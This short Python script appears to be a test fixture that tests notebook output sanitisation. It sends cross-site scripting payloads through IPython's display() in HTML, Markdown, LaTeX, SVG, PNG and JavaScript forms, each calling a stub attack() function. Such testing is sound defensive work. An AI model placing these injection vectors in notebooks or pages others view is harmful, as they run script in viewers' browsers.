"""Displays HTML, pictures and texts with a script, which runs where others look at the page.

aim: harm
known: notebooks https://github.com/jupyter/nbconvert/issues/1014
"""

from IPython.display import display

SCRIPT = "<script>attack()</script><img src='x' onerror='attack()'>"
PICTURE = (
    "<svg xmlns='http://www.w3.org/2000/svg' onload='attack()'><script>attack()</script></svg>"
)
for kind, content in {
    "text/html": SCRIPT,
    "text/markdown": f"{SCRIPT} [here](javascript:attack())",
    "text/latex": f"$x$ {SCRIPT}",
    "image/svg+xml": PICTURE,
    "image/png": '"><script>attack()</script>',
    "application/javascript": "attack()",
}.items():
    display({kind: content}, raw=True)
